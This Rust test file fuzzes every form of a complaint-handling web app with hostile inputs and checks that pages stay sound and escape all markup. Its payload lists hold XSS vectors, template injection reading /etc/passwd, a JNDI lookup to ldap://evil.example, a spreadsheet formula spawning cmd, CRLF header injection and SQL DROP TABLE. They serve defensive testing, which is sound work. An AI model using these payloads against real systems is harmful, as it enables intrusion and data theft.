//! Hostile texts in every text field of every page: none runs, none breaks a page, and the page still reads.

use reqwest::Method;
use serde_json::json;

use super::html::mistakes;
use crate::story::steps::letter;
use crate::story::ward::in_the_ward;
use crate::support::browser::{Browser, Opened};

/// Markup, template syntax, marks that turn the direction, controls, words without an end: those that differ most.
pub fn hostile() -> Vec<String> {
    let mut all: Vec<String> = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "</textarea><script>alert(1)</script>",
        "</select></form><h1>x</h1>",
        "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
        "javascript:alert(1)",
        "\u{202e}gpj.exe\u{2066}",
        "a\u{0}b\u{7}c",
        "%00%0d%0aSet-Cookie: x=y",
        "=cmd|' /C calc'!A0",
        "&lt;b&gt; &amp;amp; &#60;",
        "𝔷̷̛̗̈́ à́̂ ờ́ 漢字 🗳️",
        "1; DROP TABLE cases; --",
    ]
    .map(str::to_owned)
    .into();
    all.push("x".repeat(3000));
    all.push("ẩ".repeat(19_000));
    all
}

/// Two hundred and more: those, and markup of every kind in every wrapping, controls and marks one by one, words of every length.
fn two_hundred() -> Vec<String> {
    let mut all = hostile();
    let payloads = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<style>*{display:none}</style>",
        "<base href=//evil.example>",
        "<form action=//evil.example><input name=csrf>",
        "<b onmouseover=alert(1)>x",
        "{{ self }}",
        "{% include \"/etc/passwd\" %}",
        "<%= 7*7 %>",
        "${jndi:ldap://evil.example/x}",
    ];
    let around =
        [("", ""), ("\">", ""), ("'>", ""), ("</title>", ""), ("</textarea>", ""), ("-->", "<!--"), ("]]>", "<![CDATA["), ("\r\n", "\r\n")];
    for payload in payloads {
        all.extend(around.iter().map(|(before, after)| format!("{before}{payload}{after}")));
    }
    for mark in
        ('\u{1}'..='\u{1f}').chain(['\u{7f}', '\u{85}', '\u{200b}', '\u{200e}', '\u{200f}', '\u{2028}', '\u{2029}', '\u{feff}', '\u{fffe}'])
    {
        all.push(format!("Nguyễn{mark}Văn An"));
    }
    all.extend(('\u{202a}'..='\u{202e}').chain('\u{2066}'..='\u{2069}').map(|mark| format!("{mark}gpj.na{mark}")));
    all.extend((1..=16).map(|n| "ằ".repeat(n * n * 17)));
    all.extend((1..=16).map(|n| format!("{}{}", "a\u{301}\u{323}".repeat(n), "🇻🇳".repeat(n))));
    assert!(all.len() >= 200, "{}", all.len());
    all
}

/// The page is sound, whatever its size, and nothing of what was typed became markup.
#[track_caller]
pub fn sound(page: &Opened, what: &str) {
    let wrong: Vec<String> = mistakes(&page.html).into_iter().filter(|m| !m.contains("bytes; at most")).collect();
    assert_eq!(wrong, Vec::<String>::new(), "{what}: {}", page.html);
    for markup in ["<script>", "<img", "<iframe", "<style", "<base", "onload=alert(1)>\n<", "<b on", "href=\"javascript"] {
        assert!(!page.html.contains(markup), "{what} {markup}: {}", page.html);
    }
}

/// A form as it stands on a page.
#[derive(Debug, Clone)]
struct Found {
    action: String,
    post: bool,
    files: bool,
    /// Names of what people write.
    texts: Vec<String>,
    /// Everything else, with a value that it may have.
    others: Vec<(String, String)>,
}

fn attribute(tag: &str, name: &str) -> Option<String> {
    let (_, after) = tag.split_once(&format!(" {name}=\""))?;
    Some(after.split('"').next()?.replace("&#38;", "&").replace("&#34;", "\""))
}

/// The forms of a page that have something to write into.
fn forms(page: &Opened) -> Vec<Found> {
    let mut all = Vec::new();
    for form in page.html.split("<form").skip(1) {
        let (head, rest) = form.split_once('>').unwrap();
        let body = rest.split("</form>").next().unwrap();
        let mut found = Found {
            action: attribute(head, "action").unwrap_or_else(|| page.path.split('?').next().unwrap().to_owned()),
            post: head.contains("method=\"post\""),
            files: head.contains("multipart"),
            texts: Vec::new(),
            others: Vec::new(),
        };
        for tag in body.split('<').skip(1) {
            let Some(name) = attribute(tag, "name") else { continue };
            let kind = attribute(tag, "type").unwrap_or_default();
            if tag.starts_with("textarea")
                || tag.starts_with("input") && ["text", "search", "email", "tel", "url", ""].contains(&kind.as_str())
            {
                found.texts.push(name);
            } else if tag.starts_with("select") {
                let options = body.split(&format!("name=\"{name}\"")).nth(1).unwrap().split("</select>").next().unwrap();
                let mut values = options.split("<option").skip(1).filter_map(|o| attribute(o, "value"));
                found.others.push((name, values.find(|v| !v.is_empty()).unwrap_or_default()));
            } else if tag.starts_with("input")
                && kind != "file"
                && !(["radio", "checkbox"].contains(&kind.as_str()) && found.others.iter().any(|(n, _)| *n == name))
            {
                let value = match kind.as_str() {
                    "password" => "einlangeswort".to_owned(),
                    "number" => "3".to_owned(),
                    "date" => "2021-04-20".to_owned(),
                    _ => attribute(tag, "value").unwrap_or_default(),
                };
                found.others.push((name, value));
            }
        }
        if !found.texts.is_empty() {
            all.push(found);
        }
    }
    all
}

/// Sends every form of this page, each time with other texts in all of its fields; how many fields met how many texts.
fn assail(browser: &Browser<'_>, page: &Opened, times: usize) -> usize {
    let texts = two_hundred();
    let mut tried = 0;
    for form in forms(page) {
        for turn in 0..times {
            let text = |at: usize| texts[(turn + at * 7) % texts.len()].as_str();
            let others = form.others.iter().map(|(n, v)| (n.as_str(), v.as_str()));
            let typed = form.texts.iter().enumerate().map(|(at, name)| (name.as_str(), text(at)));
            let all: Vec<(&str, &str)> = others.chain(typed).collect();
            let what = format!("{} {} {:.40?}", page.path, form.action, text(0));
            let answer = match (form.post, form.files) {
                (true, true) => browser.send_files(&form.action, &all, &[("a.csv", b"date,kind,vi,en\n2027-01-01,off,a,b\n")]),
                (true, false) => browser.post(&form.action, &all),
                (false, _) => {
                    let query: Vec<String> = all.iter().map(|(n, v)| format!("{n}={}", encoded(v))).collect();
                    browser.send(Method::GET, &format!("{}?{}", form.action.split('#').next().unwrap(), query.join("&")), &[], None)
                }
            };
            assert!(answer.status < 500, "{what}: {} {}", answer.status, answer.html);
            assert!(!answer.location.contains("evil.example") && !answer.location.contains('<'), "{what}: {}", answer.location);
            if answer.status != 303 && answer.content_type.starts_with("text/html") {
                sound(&answer, &what);
            }
            tried += form.texts.len();
        }
    }
    tried
}

fn encoded(text: &str) -> String {
    // A server takes no longer address than this.
    text.chars().take(300).collect::<String>().bytes().map(|b| format!("%{b:02X}")).collect()
}

#[test]
fn no_text_field_of_a_member_or_an_admin_runs_or_breaks() {
    in_the_ward("2021-04-16 08:00", |ward| {
        ward.submitted(&letter("complaint", "voter_list", json!({})));
        let mut tried = 0;
        for (name, pages) in [
            ("lan", &["/counter", "/desk", "/cases", "/register", "/account"][..]),
            ("tuan", &["/board", "/signing", "/team", "/desk", "/cases", "/figures", "/figures/report", "/register"]),
            (
                "admin",
                &[
                    "/admin/users",
                    "/admin/users/new",
                    "/admin/units",
                    "/admin/units/new",
                    "/admin/elections",
                    "/admin/elections/new",
                    "/admin/calendars",
                    "/admin/law",
                    "/admin/law/figures",
                    "/admin/mail",
                    "/admin/jobs",
                    "/account",
                ],
            ),
        ] {
            let browser = Browser::signed_in(ward.app, name);
            browser.set_cookie("redress-lang", "en");
            for path in pages {
                let page = browser.get(path).expect(200);
                tried += assail(&browser, &page, 200);
            }
            // What was taken stands in lists now.
            for path in pages {
                let page = browser.get(path).expect(200);
                sound(&page, path);
                assert!(!page.html.contains('\u{202e}') && !page.html.contains('\u{7}'), "{path}: marks and controls are not kept");
            }
        }
        assert!(tried > 200 * 25, "{tried}");
    });
}

#[test]
fn no_text_field_of_a_citizen_runs_or_breaks() {
    in_the_ward("2021-04-16 08:00", |ward| {
        let mut tried = 0;
        let browser = Browser::new(ward.app);
        browser.set_cookie("redress-lang", "en");
        for path in ["/", "/track", "/calendar", "/figures", "/sign-in", "/password/forgotten"] {
            let page = browser.get(path).expect(200);
            tried += assail(&browser, &page, 200);
        }
        // The submission: each question is assailed before it is answered.
        let mut page = browser.get("/submit").expect(200);
        let area = ward.unit("KV7").to_owned();
        for answer in [
            &[("matter", "voter_list")][..],
            &[("kind", "complaint")],
            &[("title", "x"), ("body", "y")],
            &[("polling_area", &area)],
            &[("respondent.name", "x")],
            &[("identity", "named")],
            &[("petitioner.name", "x"), ("petitioner.phone", "0912 345 678")],
            &[("signers", "7")],
            &[("representatives.0.name", "x"), ("representatives.0.phone", "0987 654 321")],
        ] {
            let path = page.path.split('?').next().unwrap().to_owned();
            tried += assail(&browser, &page, 200);
            let sent = browser.submit(&page, &path, answer);
            assert_eq!(sent.status, 303, "{path}: {}", sent.text());
            page = browser.get(&sent.location).expect(200);
            sound(&page, &path);
        }
        assert!(page.path.ends_with("/papers"), "{}", page.path);
        // One's own case.
        let receipt = ward.submitted(&letter("complaint", "voter_list", json!({})));
        let open = browser.get("/track").expect(200);
        let opened = browser.submit(&open, "/track", &[("number", &receipt.number), ("receipt_code", &receipt.code)]);
        let case = browser.follow(&opened).expect(200);
        for form in ["message", "add-letter"] {
            assert!(forms(&case).iter().any(|f| f.action.ends_with(form)), "{form}: {:?}", forms(&case));
        }
        tried += assail(&browser, &case, 100);
        let case = browser.get("/track/case").expect(200);
        sound(&case, "the sender's case");
        assert!(case.says("<script>alert(1)</script>") && case.says("{% include \"/etc/passwd\" %}"), "it reads as it was written");
        assert!(tried > 200 * 15, "{tried}");
    });
}
